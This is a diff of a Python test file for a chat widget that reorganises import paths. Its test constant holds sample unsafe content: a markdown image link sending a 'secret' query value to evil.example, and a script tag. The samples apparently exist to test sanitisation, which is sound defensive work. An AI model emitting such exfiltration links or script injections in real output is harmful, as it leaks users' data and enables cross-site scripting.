@@ -19,9 +19,9 @@ from process_helpers import run_in_processes
 from test_widget import recording_comm, request, wait_idle  # noqa: F401  (the comm fixture)
 
 import sensenova_widget as snw
-from sensenova_widget import keeping
-from sensenova_widget.store import open_store
-from sensenova_widget.widget import ChatPanel
+from sensenova_widget.conversation.store import open_store
+from sensenova_widget.panel import keeping
+from sensenova_widget.panel.widget import ChatPanel
 
 UNSAFE = "See ![x](https://evil.example/leak.png?q=secret) and <script>alert(1)</script> **bold**"
 
